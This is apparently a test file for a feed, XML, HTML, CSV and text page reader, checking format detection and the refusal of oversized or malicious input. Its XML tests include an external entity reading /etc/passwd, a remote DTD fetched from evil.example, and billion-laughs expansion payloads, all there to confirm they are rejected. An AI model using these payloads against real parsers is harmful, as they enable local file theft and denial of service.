import { describe, expect, test } from 'vitest';
import type { Field } from '../options.js';
import { pageOf, payloadsOf } from '../test/page-of.js';
import { formatOf, readPage } from './read-page.js';

const rss = (inside: string): string => `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>News</title><link>/</link>${inside}</channel></rss>`;

describe('the format', () => {
  test.each([
    ['application/json', '[]', 'json'], ['application/vnd.api+json; charset=utf-8', '{}', 'json'], ['application/rss+xml', rss(''), 'feed'], ['text/xml', rss(''), 'feed'],
    ['application/xml', '<!-- a --><?pi?><!DOCTYPE feed><feed/>', 'feed'], ['text/xml', '<rdf:RDF/>', 'feed'], ['text/xml', '<catalog/>', 'xml'], ['text/html', '<p>', 'html'], ['text/csv', 'a', 'csv'],
    ['text/plain', '[1]', 'json'], ['application/octet-stream', '<!DOCTYPE html><p>', 'html'], [null, '<feed>', 'feed'], [null, '<?xml version="1.0"?><a/>', 'xml'], [null, 'a,b', 'text'], ['text/plain', 'a < b', 'text'],
  ])('of %s with %s is %s', (type, text, format) => {
    expect(formatOf(type, text)).toBe(format);
  });

  test.each(['', ' \n'])('of nothing does not matter: %j', (text) => {
    expect(payloadsOf(text, { format: 'json' })).toEqual([]);
  });
});

describe('JSON', () => {
  test.each([
    ['[{"a":1},2]', {}, [{ a: 1 }, { value: 2 }]],
    ['{"a":[1]}', {}, [{ a: [1] }]],
    ['{"items":null}', { items: 'items' }, []],
    ['{"__proto__":{"x":1}}', {}, [JSON.parse('{"__proto__":{"x":1}}')]],
  ])('%s gives its items', (text, options, items) => {
    expect(payloadsOf(text, { format: 'json', ...options })).toEqual(items);
  });

  test('is refused when it is nested too deep, brackets in texts not counted', () => {
    expect(() => payloadsOf(`${'['.repeat(101)}${']'.repeat(101)}`, { format: 'json' })).toThrow('the JSON is nested deeper than 100 levels; nothing of it was read');
    expect(payloadsOf(`["${'['.repeat(200)}\\"${'['.repeat(200)}"]`, { format: 'json' })).toHaveLength(1);
  });

  test('is refused where the next cursor is no text', () => {
    const page = pageOf('{"next":{"a":1}}', { paging: { by: 'cursor', next: 'next', overlap: 0 } });
    expect(() => readPage('json', page)).toThrow('paging.next: "next" finds the fields "a"; it must find a text or a number');
  });
});

describe('a feed', () => {
  test('of RSS gives its items, with what other namespaces say', () => {
    const item = '<item><guid>g1</guid><title>A &amp; B</title><link>/a</link><description><![CDATA[<p>x]]></description><content:encoded>&lt;b&gt;</content:encoded><dc:creator>Anna</dc:creator><category>cars</category><pubDate>Tue, 02 Jan 2024 10:00:00 EST</pubDate><enclosure url="/a.mp3" length="5" type="audio/mpeg"/></item>';
    expect(readPage('auto', pageOf(rss(item))).items).toEqual([{
      id: 'g1', occurredAt: Date.parse('2024-01-02T15:00:00Z'),
      payload: {
        id: 'g1', title: 'A & B', url: 'https://x.test/a', summary: '<p>x', content: '<b>', authors: ['Anna'], categories: ['cars'], publishedAt: '2024-01-02T15:00:00.000Z',
        enclosures: [{ url: 'https://x.test/a.mp3', length: 5, type: 'audio/mpeg' }], feed: { title: 'News', url: 'https://x.test/' },
      },
    }]);
  });

  test.each([
    ['RSS without a guid by its link', rss('<item><title>t</title><link>/a</link></item>'), 'https://x.test/a'],
    ['RSS with neither by nothing', rss('<item><title>t</title></item>'), undefined],
    ['Atom by its id', '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><id>urn:1</id><title>t</title><link rel="edit" href="/e"/><link href="/a"/></entry></feed>', 'urn:1'],
    ['RDF by what it is about', '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>t</title></channel><item rdf:about="urn:2"><title>t</title><link>/a</link></item></rdf:RDF>', 'urn:2'],
    ['JSON Feed by its id', '{"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{"id":"3","url":"/a","date_published":"2024-01-02T10:00:00Z"}]}', '3'],
  ])('names an item of %s', (_what, text, id) => {
    const [item] = readPage('auto', pageOf(text)).items;
    expect(item?.id).toBe(id);
  });

  test('of Atom takes the page for people, not the one for editors', () => {
    const text = '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><id>1</id><title>t</title><link rel="edit" href="/e"/><link rel="alternate" href="/a"/><updated>2024-01-02T10:00:00Z</updated></entry></feed>';
    expect(payloadsOf(text)).toMatchObject([{ url: 'https://x.test/a', publishedAt: '2024-01-02T10:00:00.000Z' }]);
  });

  test('knows its next page', () => {
    const paging = { by: 'next', overlap: 0 } as const;
    expect(readPage('feed', pageOf('{"version":"https://jsonfeed.org/version/1","title":"t","items":[],"next_url":"https://x.test/2"}', { paging })).next).toBe('https://x.test/2');
    expect(readPage('feed', pageOf('<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><link rel="next" href="?p=2"/></feed>', { paging })).next).toBe('?p=2');
  });

  test('that was cut off is refused whole', () => {
    expect(() => payloadsOf(rss('<item><title>a</title></item>').slice(0, -20), { format: 'feed' })).toThrow(/was cut off|cut off/);
  });

  test('in the hundreds of items keeps every one', () => {
    expect(payloadsOf(rss('<item><guid>1</guid><title>a</title></item>'.repeat(600)))).toHaveLength(600);
  });
});

describe('XML', () => {
  test('is plain values, with nothing guessed', () => {
    const text = '<?xml version="1.0"?><catalog><group><lot id="007">Camry &amp; &#x41;&#66; &amp;lt; &foo;</lot></group><group><lot id="1e5"><![CDATA[<b>&amp;]]></lot><lot/></group></catalog>';
    expect(payloadsOf(text, { format: 'xml', items: 'catalog.group.lot' })).toEqual([{ '#text': 'Camry & AB &lt; &foo;', '@id': '007' }, { '#text': '<b>&amp;', '@id': '1e5' }, { value: '' }]);
  });

  test.each([
    ['entities of its own', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', 'the XML declares entities of its own, which may grow without end when they are put in; nothing of it was read'],
    ['nothing but open tags', '<a>'.repeat(300_000), 'the XML is nested deeper than 100 levels'],
    ['open tags that nothing closes', `<a>${'<b'.repeat(100_000)}`, 'an XML tag is longer than 65536 characters'],
    ['entities of another file', '<!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'the XML declares entities of its own'],
    ['a billion laughs', `<!DOCTYPE a [<!ENTITY l "ha">${Array.from({ length: 30 }, (_, index) => `<!ENTITY l${index} "${(index === 0 ? '&l;' : `&l${index - 1};`).repeat(10)}">`).join('')}]><a>&l29;</a>`, 'the XML declares entities of its own'],
    ['one long entity many times', `<!DOCTYPE a [<!ENTITY l "${'x'.repeat(60_000)}">]><a>${'&l;'.repeat(50_000)}</a>`, 'the XML declares entities of its own'],
    ['entities for its own declarations', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/>', 'the XML declares entities of its own'],
    ['nesting', '<a>'.repeat(101), 'the XML is nested deeper than 100 levels; nothing of it was read'],
    ['crowds of attributes', `<a ${Array.from({ length: 101 }, (_, index) => `b${index}="1"`).join(' ')}/>`, 'an XML element has more than 100 attributes; nothing of it was read'],
    ['an endless tag', `<a b="${'x'.repeat(70_000)}"/>`, 'an XML tag is longer than 65536 characters; nothing of it was read'],
    ['an endless comment', '<a><!-- ', 'the XML ends inside a tag, a comment or a text: it was cut off, or is not XML'],
    ['too many elements', `<a>${'<b/>'.repeat(500_001)}</a>`, 'the XML has more than 500000 elements; ask for smaller pages'],
    ['a missing end', '<a><b></b>', 'it is not well-formed XML, or was cut off: '],
    ['HTML', '<!doctype html><p>Log in', 'is not XML: it came as nothing stated and begins "<!doctype html><p>Log in"'],
    ['a path that leads nowhere', '<a><b/></a>', 'items: "a.c" finds nothing in it; its first element is "a"'],
  ])('with %s is refused', (_what, text, message) => {
    expect(() => payloadsOf(text, { format: 'xml', items: 'a.c' })).toThrow(message);
  });

  test('of a document type without entities is read', () => {
    expect(payloadsOf('<!DOCTYPE a SYSTEM "a.dtd"><a><c>1</c></a>', { format: 'xml', items: 'a.c' })).toEqual([{ value: '1' }]);
  });

  test('of a feed with HTML nobody closed inside a description is no deeper for it', () => {
    expect(payloadsOf(rss(`<item><guid>1</guid><description>${'a<br>'.repeat(150)}</description></item>`.replaceAll('<br>', '<br/>')))).toHaveLength(1);
    expect(payloadsOf(rss('<item><guid>1</guid><description>a<br>b</description></item>'.repeat(200)))).toHaveLength(200);
  });
});

describe('HTML', () => {
  const fields: Field[] = [{ name: 'title', css: 'b', take: 'text', all: false }, { name: 'link', css: 'a', take: 'attribute', attribute: 'href', all: false }, { name: 'tags', css: 'i', take: 'text', all: true }, { name: 'inside', css: 'u', take: 'html', all: false }];

  test('gives the fields of each item, with addresses made whole', () => {
    const html = '<ul><li><a href="../x?a=1&amp;b=2"><b> A\n  &amp; B<script>x</script></b></a><i>1<i>2</i></i><u><s>y</s></u><li>nothing</ul>';
    expect(payloadsOf(html, { format: 'html', items: 'li', fields, url: 'https://x.test/a/b/' })).toEqual([
      { title: 'A & B', link: 'https://x.test/a/x?a=1&b=2', tags: ['12', '2'], inside: '<s>y</s>' }, { title: null, link: null, tags: [], inside: null },
    ]);
  });

  test('gives its text where no field is asked for', () => {
    expect(payloadsOf('<p>a</p><p>b</p>', { format: 'html', items: 'p' })).toEqual([{ text: 'a' }, { text: 'b' }]);
    expect(payloadsOf('<h1>a</h1><style>x</style> <p>b', { contentType: 'text/html' })).toEqual([{ text: 'a b' }]);
  });

  test.each([
    ['nesting', '<b>'.repeat(600), 'the HTML is nested deeper than 512 levels; nothing of it was read'],
    ['too many elements', '<p>'.repeat(300_001), 'the HTML has more than 300000 elements; ask for smaller pages'],
    ['too many items', '<p>'.repeat(10_001), 'the page has 10001 items, at most 10000 are taken'],
  ])('with %s is refused', (_what, html, message) => {
    expect(() => payloadsOf(html, { format: 'html', items: 'p' })).toThrow(message);
  });

  test('whose link to the next page is no link is refused', () => {
    expect(() => readPage('html', pageOf('<p class=next>', { paging: { by: 'next', next: '.next', overlap: 0 } }))).toThrow('paging.next: ".next" selects <p> without an href; select the link itself');
  });
});

describe('CSV', () => {
  const csv = { delimiter: ',', header: true, typed: false };

  test.each([
    ['\ufeffa,"b c"\r\n1,"x, ""y""\nz"\r\n\r\n', {}, [{ a: '1', 'b c': 'x, "y"\nz' }]],
    ['a;b\n007;1.50', { csv: { ...csv, delimiter: ';', typed: true } }, [{ a: '007', b: 1.5 }]],
    ['a\tb', { csv: { ...csv, delimiter: '\\t', header: false } }, [{ column1: 'a', column2: 'b' }]],
    ['a,,a b\n1,2,3', {}, [{ a: '1', column2: '2', 'a b': '3' }]],
    ['1,-0.5,1e5,12345678901234567890,', { csv: { ...csv, header: false, typed: true } }, [{ column1: 1, column2: -0.5, column3: '1e5', column4: '12345678901234567890', column5: '' }]],
  ])('%j is read', (text, options, items) => {
    expect(payloadsOf(text, { format: 'csv', ...options })).toEqual(items);
  });

  test.each([
    ['a line that is too short', 'a,b\n1,2\n3', 'csv: Invalid Record Length: expect 2, got 1 on line 3; it was cut off, or check "csv.delimiter" and the quotes'],
    ['a quote that is not closed', 'a,b\n1,"2', 'csv: Quote Not Closed'],
    ['one name twice', 'a,a\n1,2', 'csv: the header names "a" twice; use "csv.header": false and the columns by number'],
    ['too many columns', ','.repeat(1_000), 'csv: a line has more than 1000 fields; check "csv.delimiter"'],
    ['too many fields', ',\n'.repeat(2_000_001), 'csv: the page has more than 2000000 fields; ask for smaller pages'],
    ['an endless field', `a\n${'x'.repeat(300_000)}`, 'csv: Max Record Size'],
    ['too many lines', 'a\n'.repeat(10_002), 'the page has 10001 items, at most 10000 are taken'],
  ])('with %s is refused', (_what, text, message) => {
    expect(() => payloadsOf(text, { format: 'csv' })).toThrow(message);
  });
});

describe('text', () => {
  test.each([
    [undefined, 'a\r\n\r\n b\n', [{ line: 'a' }, { line: ' b' }]],
    ['(?P<vin>\\w+) for (?P<price>\\d+)', 'V1 for 100\nnothing\nV2 for 200', [{ vin: 'V1', price: '100' }, { vin: 'V2', price: '200' }]],
    ['\\d+', 'a1b', [{ line: 'a1b', match: '1' }]],
  ])('by %s is read', (items, text, payloads) => {
    expect(payloadsOf(text, { format: 'text', items })).toEqual(payloads);
  });

  test('is matched without backtracking', () => {
    expect(payloadsOf(`${'a'.repeat(50_000)}!\n`, { format: 'text', items: '^(a+)+$' })).toEqual([]);
  });

  test.each([
    ['a program that is too large', 'x', '(?:a?a?){350}a{700}b', 'becomes a program of 2103 steps, at most 2000 are run; use smaller repeats'],
    ['a text that is too large for the program', 'a'.repeat(1_000_000), 'a{200}', 'on this page of 1000000 characters, at most 100000000 are made; simplify it, or ask for smaller pages'],
    ['what goes back', 'x', '(a)\\1', 'is not a regular expression of the RE2 syntax'],
  ])('is refused with %s', (_what, text, items, message) => {
    expect(() => payloadsOf(text, { format: 'text', items })).toThrow(message);
  });
});
